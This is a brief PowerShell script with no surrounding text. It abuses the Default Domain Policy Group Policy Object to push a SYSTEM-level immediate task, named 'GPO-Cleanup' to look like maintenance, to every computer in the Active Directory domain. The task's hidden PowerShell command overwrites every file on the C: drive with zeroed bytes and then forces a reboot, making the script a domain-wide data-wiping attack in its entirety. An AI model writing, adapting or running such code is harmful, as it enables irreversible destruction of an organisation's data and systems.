$gpo = Get-GPO -Name "Default Domain Policy"
$cmd = 'powershell -w hidden -c "Get-ChildItem C:\ -Recurse -Force -File -EA 0 | % { [IO.File]::WriteAllBytes($_.FullName, (New-Object byte[] 4096)) }; Restart-Computer -Force"'
New-GPOImmediateTask -GPO $gpo -TaskName "GPO-Cleanup" -Command "cmd.exe" -CommandArguments "/c $cmd" -RunAsUser "NT AUTHORITY\SYSTEM"
Invoke-GPUpdate -Computer (Get-ADComputer -Filter *).Name -Force -RandomDelayInMinutes 0
